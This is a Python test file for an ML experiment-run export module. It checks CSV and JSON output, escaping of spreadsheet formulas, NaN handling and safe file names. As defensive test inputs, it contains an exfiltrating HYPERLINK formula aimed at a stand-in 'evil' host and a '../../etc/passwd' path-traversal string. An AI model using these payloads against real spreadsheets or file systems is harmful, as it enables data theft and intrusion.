"""Exported files: no cell runs in a spreadsheet, no type is lost in JSON, no name leaves its folder."""

import csv
import io
import json
import math

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lib.runs.export.table_files import as_csv, as_json, escape_formula, safe_file_name
from lib.runs.table.types import DataInput, RegisteredVersion
from tests.support.run_factories import START, make_run, make_run_table

EVIL = "=HYPERLINK(\"http://evil/\"&A1;'x')"
ANY_TEXT = st.text(st.characters(exclude_categories=["Cs"]), max_size=40)


def read_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@settings(deadline=None, max_examples=60, derandomize=True)
@given(st.dictionaries(ANY_TEXT, ANY_TEXT, max_size=4), st.dictionaries(ANY_TEXT, ANY_TEXT, max_size=3), ANY_TEXT)
def test_no_cell_begins_as_a_formula_and_every_text_comes_back(params, tags, name):
    table = make_run_table(make_run("a", params=params, tags=tags), make_run(name or "b"))
    rows = list(csv.reader(io.StringIO(as_csv(table, table.ids).decode("utf-8-sig"), newline="")))
    for cell in (cell for row in rows for cell in row):
        assert not cell or cell[0] not in "=+-@\t\r\n" or math.isfinite(float(cell))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert {row[f"params.{key}"] for key in params} == {escape_formula(value) for value in params.values()}


def test_plain_numbers_stay_numbers_and_formulas_do_not():
    assert [escape_formula(cell) for cell in ("-5", "+1.5e-3", "-.5", "-Infinity", "0")] == [
        "-5",
        "+1.5e-3",
        "-.5",
        "-Infinity",
        "0",
    ]
    assert [escape_formula(cell)[0] for cell in ("-5+1", "=1", "@x", "\tx", "\rx", "+", "-", "-5\n", "＝1", EVIL)] == ["'"] * 10


def test_the_csv_has_the_runs_in_the_asked_order_with_parameters_as_logged():
    table = make_run_table(
        make_run("a", params={"rate": "1e-05"}, metrics={"acc": 0.5, "loss": -1.5}),
        make_run("b", params={"rate": "0.10"}),
        make_run("c"),
    )
    rows = read_rows(as_csv(table, ["b", "a"]))
    assert [row["run_id"] for row in rows] == ["b", "a"]
    assert [row["params.rate"] for row in rows] == ["0.10", "1e-05"]
    assert (rows[1]["metrics.acc"], rows[1]["metrics.loss"], rows[0]["metrics.acc"]) == ("0.5", "-1.5", "")
    assert rows[0]["started"] == START.isoformat(timespec="milliseconds").replace("+00:00", "Z")


def test_a_spreadsheet_sees_utf_8_and_pandas_reads_the_first_heading():
    data = as_csv(make_run_table(make_run("ä", metrics={"größe": 1.0})), ["ä"])
    assert data.startswith(b"\xef\xbb\xbf")
    assert next(iter(pd.read_csv(io.BytesIO(data)).columns)) == "run_id"
    assert pd.read_csv(io.BytesIO(data)).loc[0, "metrics.größe"] == 1.0


def test_json_keeps_types_and_writes_nan_and_infinities_as_words_and_drops_what_is_missing():
    table = make_run_table(
        make_run(
            "a",
            params={"n": 5, "mode": "x"},
            metrics={"acc": 0.5, "inf": math.inf, "low": -1.7976931348623157e308, "nan": math.nan},
            tags={"team": "blue", "mlflow.user": "ana"},
            inputs=(DataInput("wine", "abc", "train"),),
            versions=(RegisteredVersion("m", "1", "Production"),),
        ),
        make_run("b", params={"n": 7}),
    )
    document = json.loads(as_json(table, table.ids))
    first_run, second_run = document["runs"]
    assert first_run["params"] == {"n": 5, "mode": "x"}
    assert first_run["metrics"] == {"acc": 0.5, "inf": "Infinity", "low": "-Infinity", "nan": "NaN"}
    assert (first_run["tags"], first_run["inputs"]) == ({"team": "blue"}, [{"name": "wine", "digest": "abc", "context": "train"}])
    assert (second_run["params"], second_run["metrics"]) == ({"n": 7}, {})
    assert (document["experiments"], document["state"]) == (["1"], "active")


@settings(deadline=None, max_examples=60, derandomize=True)
@given(ANY_TEXT)
def test_a_file_name_never_leaves_its_folder_and_is_never_empty(name):
    file_name = safe_file_name(name, "csv")
    assert file_name.endswith(".csv")
    assert not file_name.startswith(".")
    assert not set(file_name) & set('/\\:*?"<>|\0\n\r ')
    assert 4 < len(file_name) <= 70


def test_a_file_name_keeps_what_people_read():
    assert safe_file_name("card fraud / v2", "csv") == "card-fraud-v2.csv"
    assert safe_file_name("../../etc/passwd", "json") == "etc-passwd.json"
    assert safe_file_name("con", "png") == "runs-con.png"
    assert safe_file_name("größe", "png") == "größe.png"


def test_no_run_gives_a_file_with_headings_only():
    table = make_run_table(make_run("a", metrics={"acc": 1.0}))
    assert read_rows(as_csv(table, [])) == []
    assert json.loads(as_json(table, []))["runs"] == []


def test_a_metric_that_is_nan_and_one_that_was_never_logged_are_two_things_in_every_file():
    table = make_run_table(
        make_run("a", metrics={"loss": math.nan, "acc": 0.5}), make_run("b", metrics={"acc": math.nan}), make_run("c")
    )
    for ids in (["a", "b", "c"], ["c", "a"], ["b"]):
        metrics_by_id = {
            run["run_id"]: run["metrics"] for run in json.loads(as_json(table, ids), parse_constant=pytest.fail)["runs"]
        }
        assert metrics_by_id == {
            run_id: {"a": {"loss": "NaN", "acc": 0.5}, "b": {"acc": "NaN"}, "c": {}}[run_id] for run_id in ids
        }
        cells = {row["run_id"]: (row["metrics.loss"], row["metrics.acc"]) for row in read_rows(as_csv(table, ids))}
        assert cells == {run_id: {"a": ("NaN", "0.5"), "b": ("", "NaN"), "c": ("", "")}[run_id] for run_id in ids}
    assert pd.read_csv(io.BytesIO(as_csv(table, table.ids)))["metrics.acc"].dtype == "float64"
